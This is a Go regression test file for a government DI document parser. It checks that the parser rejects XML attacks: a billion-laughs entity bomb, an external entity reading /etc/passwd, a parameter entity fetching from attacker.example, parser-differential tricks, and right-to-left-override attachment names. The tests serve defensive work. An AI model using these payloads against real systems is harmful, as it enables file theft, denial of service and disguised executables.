package di_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/traditionalchinese"

	"github.com/cardbridge/cardbridge/internal/exchange/di"
)

// Regression: the entity attacks of a hostile sender's DI, each refused
// by name before anything expands or is fetched.
func TestAttackEntities(t *testing.T) {
	lol := `<?xml version="1.0"?><!DOCTYPE 函 [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><函><主旨><文字>&c;</文字></主旨></函>`
	for name, doc := range map[string]string{
		"billion laughs":               lol,
		"an external parsed entity":    `<!DOCTYPE 函 [<!ENTITY x SYSTEM "file:///etc/passwd">]><函><主旨><文字>&x;</文字></主旨></函>`,
		"a parameter entity":           `<!DOCTYPE 函 [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><函/>`,
		"a parameter entity, no space": `<!DOCTYPE 函 [<!ENTITY %p SYSTEM "http://attacker.example/x.dtd">]><函/>`,
		"an undeclared entity":         `<函><主旨><文字>&nbsp;</文字></主旨></函>`,
		"an attachment used as text":   `<!DOCTYPE 函 [<!ENTITY A SYSTEM "a.pdf" NDATA DI>]><函><主旨><文字>&A;</文字></主旨></函>`,
		"a DOCTYPE inside the root":    `<函><!DOCTYPE 函 [<!ENTITY x "y">]></函>`,
		"two DOCTYPEs":                 `<!DOCTYPE 函 []><!DOCTYPE 函 [<!ENTITY x "y">]><函/>`,
	} {
		_, err := di.Parse([]byte(doc))
		assert.ErrorIs(t, err, di.ErrMalformed, name)
	}
}

// Attack: XML that Go's decoder reads and other XML processors refuse or
// read otherwise, so that the clerk's viewer and CardBridge see different
// letters: a lower-case <!doctype> whose subset is then never checked, a
// bare <!ENTITY> before the root, an XML declaration in the middle that
// switches the rest of the file to Big5, an attribute given twice (Go
// keeps the last, others refuse the file), and a namespace prefix that Go
// drops (x:主旨 counted as the 主旨).
func TestAttackParserDifferentials(t *testing.T) {
	tail, err := traditionalchinese.Big5.NewEncoder().Bytes([]byte(`<署名>局長</署名></函>`))
	require.NoError(t, err)
	midSwitch := append([]byte(`<函><主旨><文字>a</文字></主旨><?xml version="1.0" encoding="big5"?>`), tail...)
	l, err := di.Parse(midSwitch)
	if err == nil {
		t.Logf("mid-document switch accepted: encoding %s, 署名 %q", l.Encoding, l.Signature)
	}
	assert.ErrorIs(t, err, di.ErrMalformed, "an XML declaration after the start")
	for name, doc := range map[string]string{
		"a lower-case doctype":     `<!doctype 函 [<!ENTITY x "y">]><函/>`,
		"a bare ENTITY directive":  `<!ENTITY x "y"><函/>`,
		"an attribute twice":       `<函><函類別 代碼="函" 代碼="書函"/></函>`,
		"a prefixed element":       `<函><x:主旨 xmlns:x="urn:x"><文字>假的</文字></x:主旨></函>`,
		"a prefixed attribute":     `<函><函類別 x:代碼="書函" xmlns:x="urn:x"/></函>`,
		"a second XML declaration": `<?xml version="1.0" encoding="utf-8"?><?xml version="1.0" encoding="utf-8"?><函/>`,
	} {
		_, err := di.Parse([]byte(doc))
		assert.ErrorIs(t, err, di.ErrMalformed, name)
	}
	// What stays accepted: an XML declaration first, after a byte order
	// mark, and namespace declarations that prefix nothing.
	for _, doc := range []string{
		"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"utf-8\"?><函/>",
		`<?xml version="1.0"?><函 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/>`,
	} {
		_, err := di.Parse([]byte(doc))
		assert.NoError(t, err, doc)
	}
}

// Attack: a 函 with two 發文機關 (or two 主旨). Parse kept the last one at
// the top level and the first one inside a group, while a viewer may show
// the first: the clerk and CardBridge read different senders. Parse keeps
// the first and Validate names the repetition.
func TestAttackRepeatedElements(t *testing.T) {
	doc := bytes.Replace(sample(t), []byte("<函類別"), []byte("<發文機關><全銜>行政院</全銜><機關代碼>A00000000A</機關代碼></發文機關>\n  <函類別"), 1)
	doc = bytes.Replace(doc, []byte("<主旨>"), []byte("<主旨><文字>另一個主旨</文字></主旨><主旨>"), 1)
	doc = bytes.Replace(doc, []byte("<機關代碼>XC04595252</機關代碼></受文者>"), []byte("<機關代碼>XC04595252</機關代碼><機關代碼>A00000000A</機關代碼></受文者>"), 1)
	l, err := di.Parse(doc)
	require.NoError(t, err)
	assert.Equal(t, "379000000A", l.Sender.Code, "the first 發文機關")
	assert.Equal(t, "另一個主旨", l.Subject, "the first 主旨")
	var els []string
	for _, p := range di.Validate(l) {
		els = append(els, p.Element)
	}
	assert.Contains(t, els, "發文機關")
	assert.Contains(t, els, "主旨")
	assert.Contains(t, els, "受文者/機關代碼")
}

// Attack: attachment names that display as something else. A right-to-
// left override makes "研習計畫\u202efdp.exe" read as 研習計畫exe.pdf in
// Explorer and Finder; zero-width and other format characters make two
// names look alike; CONIN$, CONOUT$, COM0 and COM¹ are Windows device names
// too.
func TestAttackFileNames(t *testing.T) {
	for _, name := range []string{
		"研習計畫\u202efdp.exe", "a\u202d.pdf", "a\u2066.pdf", "a\u200b.pdf", "a\u200e.pdf", "\ufeffa.pdf", "a\u00ad.pdf", "a\u061c.pdf",
		"CONIN$", "conout$.txt", "COM0.txt", "LPT0", "COM\u00b9.txt", "LPT\u00b3.pdf",
		"a\u2028b.pdf", "a\u2029b.pdf", "\ufffd.pdf",
	} {
		assert.NotNil(t, di.CheckFileName(name), "%q", name)
	}
	for _, name := range []string{"研習計畫.pdf", "報名表 (1).odt", "COMPUTER.txt", "CONSOLE.pdf", "a.b.c.pdf", ".hidden"} {
		assert.Nil(t, di.CheckFileName(name), "%q", name)
	}
}

// Regression: Big5. A lead byte followed by an ASCII byte must not swallow
// it (a '<' or a quote would vanish and the markup shift); characters
// whose second byte is '\' (許, 功, 蓋) are text like any other.
func TestAttackBig5(t *testing.T) {
	body, err := traditionalchinese.Big5.NewEncoder().Bytes([]byte(`<函><署名>許功蓋</署名><主旨><文字>`))
	require.NoError(t, err)
	doc := append([]byte(`<?xml version="1.0" encoding="Big5"?>`), body...)
	doc = append(doc, []byte("\xa4</文字></主旨></函>")...) // a lone lead byte before "</"
	doc = bytes.Replace(doc, []byte("</文字></主旨></函>"), mustBig5(t, "</文字></主旨></函>"), 1)
	l, err := di.Parse(doc)
	require.NoError(t, err)
	assert.Equal(t, di.Big5, l.Encoding)
	assert.Equal(t, "許功蓋", l.Signature)
	assert.Equal(t, "\ufffd", l.Subject)
}

func mustBig5(t *testing.T, s string) []byte {
	b, err := traditionalchinese.Big5.NewEncoder().Bytes([]byte(s))
	require.NoError(t, err)
	return b
}

// Regression: the caps hold against the shapes that cost most: deep
// nesting, many elements, many attributes, a long name.
func TestAttackCaps(t *testing.T) {
	deep := "<函>" + strings.Repeat("<條列>", di.MaxDepth+1) + strings.Repeat("</條列>", di.MaxDepth+1) + "</函>"
	many := "<函>" + strings.Repeat("<聯絡方式/>", di.MaxElements+1) + "</函>"
	var ents strings.Builder
	for i := range di.MaxAttachments + 1 {
		ents.WriteString(`<!ENTITY A` + strings.Repeat("x", i%5) + string(rune('a'+i%26)) + strings.Repeat("y", i/26) + ` SYSTEM "f.pdf" NDATA DI>`)
	}
	manyEnts := `<!DOCTYPE 函 [` + ents.String() + `]><函/>`
	for name, doc := range map[string]string{"deep": deep, "many elements": many, "many entities": manyEnts, "too big": strings.Repeat(" ", di.MaxSize+1)} {
		start := time.Now()
		_, err := di.Parse([]byte(doc))
		assert.ErrorIs(t, err, di.ErrMalformed, name)
		assert.Less(t, time.Since(start), 5*time.Second, name)
	}
}
